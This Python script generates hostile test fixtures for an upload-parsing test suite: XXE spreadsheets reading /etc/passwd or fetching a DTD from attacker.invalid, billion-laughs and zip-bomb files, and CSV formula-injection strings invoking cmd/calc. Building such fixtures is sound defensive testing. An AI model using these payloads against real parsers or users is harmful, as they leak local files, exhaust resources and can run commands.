# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Hostile provider result files, for tests/test_hostile_files.py.

Run ``python make_hostile.py`` to (re)write the small ones next to this script;
the tests build them in memory from the same functions, and build the large
ones (the 50 MB upload) at run time only: nothing large is committed.
"""

import io
import struct
import sys
import zipfile
from pathlib import Path

HEADER = ("reference", "status", "amount_paid", "paid_date", "provider_ref", "reason")
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def workbook(date1904=False, doctype=""):
    pr = '<workbookPr date1904="1"/>' if date1904 else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<workbook {NS} {REL_NS}>'
        f'{pr}<sheets><sheet name="Results" sheetId="1" r:id="rId1"/></sheets>'
        "</workbook>"
    )


def inline(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def header_row():
    cells = "".join(inline(f"{'ABCDEF'[i]}1", name) for i, name in enumerate(HEADER))
    return f'<row r="1">{cells}</row>'


def sheet(rows_xml, doctype=""):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<worksheet {NS}>'
        f"<sheetData>{header_row()}{rows_xml}</sheetData></worksheet>"
    )


def _info(name, compression=zipfile.ZIP_DEFLATED):
    """A member with a fixed date: the script writes the same bytes each run."""
    info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
    info.compress_type = compression
    return info


def xlsx(sheet_xml, workbook_xml=None, shared=None, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, part in (
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", ROOT_RELS),
            ("xl/workbook.xml", workbook_xml or workbook()),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            ("xl/worksheets/sheet1.xml", sheet_xml),
            ("xl/sharedStrings.xml", shared),
        ):
            if part is not None:
                archive.writestr(_info(name, compression), part)
    return buffer.getvalue()


def paid_row(number, reference="CT-1", date_cell=None):
    date_cell = date_cell or inline(f"D{number}", "2025-01-10")
    return (
        f'<row r="{number}">{inline(f"A{number}", reference)}'
        f'{inline(f"B{number}", "paid")}<c r="C{number}"><v>750000</v></c>'
        f"{date_cell}</row>"
    )


# ------------------------------------------------------------------ files
def xxe():
    """An external entity reading /etc/passwd into a cell."""
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    row = paid_row(2, reference="&xxe;")
    return xlsx(sheet(row, doctype=doctype))


def xxe_shared_strings():
    """The same, hidden in the shared strings."""
    shared = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f'<sst {NS} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    )
    row = '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'
    return xlsx(sheet(row), shared=shared)


def xxe_workbook():
    """An external DTD fetched over the network from the workbook part."""
    doctype = '<!DOCTYPE workbook SYSTEM "http://attacker.invalid/evil.dtd">'
    return xlsx(sheet(paid_row(2)), workbook_xml=workbook(doctype=doctype))


def billion_laughs():
    """Entities expanding to a billion 'lol's."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    doctype = f"<!DOCTYPE worksheet [{''.join(entities)}]>"
    return xlsx(sheet(paid_row(2, reference="&lol9;"), doctype=doctype))


def zip_bomb(size=300 * 1024 * 1024):
    """A small zip whose sheet unpacks to 300 MB of spaces."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(_info("[Content_Types].xml"), CONTENT_TYPES)
        archive.writestr(_info("_rels/.rels"), ROOT_RELS)
        archive.writestr(_info("xl/workbook.xml"), workbook())
        archive.writestr(_info("xl/_rels/workbook.xml.rels"), WORKBOOK_RELS)
        sheet_info = _info("xl/worksheets/sheet1.xml")
        with archive.open(sheet_info, "w", force_zip64=True) as part:
            head = sheet("").encode()
            part.write(head[:-25])
            chunk = b" " * (1024 * 1024)
            for _ in range(size // len(chunk)):
                part.write(chunk)
            part.write(head[-25:])
    return buffer.getvalue()


def zip_bomb_ratio():
    """Under the unpacked-size limit, but compressed a thousand times."""
    return zip_bomb(size=150 * 1024 * 1024)


def zip_bomb_lying_size():
    """A zip whose directory understates the sheet's size (60 MB as 1 KB)."""
    content = bytearray(zip_bomb(size=60 * 1024 * 1024))
    name = b"xl/worksheets/sheet1.xml"
    start = content.rfind(b"PK\x01\x02", 0, content.rfind(name))
    # central directory entry: uncompressed size at offset 24
    real = struct.unpack_from("<I", content, start + 24)[0]
    if real != 0xFFFFFFFF:
        struct.pack_into("<I", content, start + 24, 1024)
    return bytes(content)


def shared_string_out_of_range():
    """A text cell pointing past the end of the shared strings."""
    shared = f'<?xml version="1.0"?><sst {NS}><si><t>CT-1</t></si></sst>'
    row = '<row r="2"><c r="A2" t="s"><v>99999</v></c></row>'
    return xlsx(sheet(row), shared=shared)


def shared_string_not_a_number():
    shared = f'<?xml version="1.0"?><sst {NS}><si><t>CT-1</t></si></sst>'
    row = '<row r="2"><c r="A2" t="s"><v>abc</v></c></row>'
    return xlsx(sheet(row), shared=shared)


def wrong_cell_types():
    """A number cell holding text, a boolean date, an invalid typed date and an
    error value: each reported on its row, never a crash."""
    rows = (
        '<row r="2">'
        + inline("A2", "CT-1")
        + inline("B2", "paid")
        + '<c r="C2"><v>abc</v></c><c r="D2" t="b"><v>1</v></c></row>'
        '<row r="3">'
        + inline("A3", "CT-2")
        + inline("B3", "paid")
        + '<c r="C3" t="e"><v>#N/A</v></c><c r="D3" t="d"><v>2025-13-45</v></c></row>'
    )
    return xlsx(sheet(rows))


def dates_1904():
    """Dates as serial numbers of the 1904 date system (old Mac workbooks):
    44205 is 10 January 2025 there (45667 in the 1900 system)."""
    row = paid_row(2, date_cell='<c r="D2" s="1"><v>44205</v></c>')
    row += paid_row(
        3, reference="CT-2", date_cell='<c r="D3" t="d"><v>2025-01-11T00:00:00</v></c>'
    )
    return xlsx(sheet(row), workbook_xml=workbook(date1904=True))


FORMULA_LIKE = (
    '=HYPERLINK("http://x","y")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
)


def formula_like_names():
    """Texts that look like formulas: read as text, never evaluated."""
    rows = ""
    for number, text in enumerate(FORMULA_LIKE, 2):
        escaped = text.replace("&", "&amp;").replace("<", "&lt;")
        rows += (
            f'<row r="{number}">{inline(f"A{number}", f"CT-{number}")}'
            f'{inline(f"B{number}", "failed")}{inline(f"E{number}", escaped)}'
            f'{inline(f"F{number}", escaped)}</row>'
        )
    rows += (
        '<row r="9"><c r="A9" t="str"><f>CONCAT("CT-","9")</f><v>CT-9</v></c>'
        + inline("B9", "failed")
        + "</row>"
    )
    return xlsx(sheet(rows))


def formula_like_csv():
    lines = [",".join(HEADER)]
    for number, text in enumerate(FORMULA_LIKE, 2):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f"CT-{number},failed,,,{quoted},{quoted}")
    return ("\n".join(lines) + "\n").encode()


def row_number_far_away():
    """A row numbered past the last row a sheet can have."""
    return xlsx(sheet('<row r="99999999999">' + inline("A1", "x") + "</row>"))


def column_far_away():
    return xlsx(sheet('<row r="2">' + inline("ZZZZZ2", "x") + "</row>"))


def deep_nesting():
    """Elements nested 100,000 deep inside a cell."""
    depth = 100_000
    cell = '<c r="A2" t="inlineStr"><is>' + "<r>" * depth + "</r>" * depth + "</is></c>"
    return xlsx(sheet(f'<row r="2">{cell}</row>'))


def not_a_zip():
    return b"PK\x03\x04" + b"\x00" * 200


def bzip2_member():
    """A member compressed with bzip2, whose decompressor has no output bound."""
    return xlsx(sheet(paid_row(2)), compression=zipfile.ZIP_BZIP2)


def csv_with_nul():
    return b"reference,status,amount_paid,paid_date\nCT-1,paid,\x00,2025-01-10\n"


def csv_utf16():
    return "reference,status,amount_paid,paid_date\nCT-1,paid,1,2025-01-10\n".encode(
        "utf-16"
    )


def csv_huge_field():
    return (
        b"reference,status,amount_paid,paid_date\nCT-1,paid,1," + b"9" * 200_000 + b"\n"
    )


SMALL = {
    "xxe.xlsx": xxe,
    "xxe_shared_strings.xlsx": xxe_shared_strings,
    "xxe_workbook.xlsx": xxe_workbook,
    "billion_laughs.xlsx": billion_laughs,
    "shared_string_out_of_range.xlsx": shared_string_out_of_range,
    "shared_string_not_a_number.xlsx": shared_string_not_a_number,
    "wrong_cell_types.xlsx": wrong_cell_types,
    "dates_1904.xlsx": dates_1904,
    "formula_like_names.xlsx": formula_like_names,
    "formula_like_names.csv": formula_like_csv,
    "row_number_far_away.xlsx": row_number_far_away,
    "column_far_away.xlsx": column_far_away,
    "not_a_zip.xlsx": not_a_zip,
    "bzip2_member.xlsx": bzip2_member,
    "csv_with_nul.csv": csv_with_nul,
    "csv_utf16.csv": csv_utf16,
    "zip_bomb.xlsx": zip_bomb,
    "zip_bomb_ratio.xlsx": zip_bomb_ratio,
}
# built at run time only
LARGE = {
    "csv_huge_field.csv": csv_huge_field,
    "deep_nesting.xlsx": deep_nesting,
    "zip_bomb_lying_size.xlsx": zip_bomb_lying_size,
}


def upload_50mb():
    """A 50 MB CSV upload (valid rows): refused for its size, unread."""
    line = b"CT-1,paid,750000,2025-01-10,GD1,\n"
    return (
        b",".join(h.encode() for h in HEADER)
        + b"\n"
        + line * (50 * 1024 * 1024 // len(line))
    )


if __name__ == "__main__":
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent)
    for name, build in SMALL.items():
        (folder / name).write_bytes(build())
        print(name, (folder / name).stat().st_size)
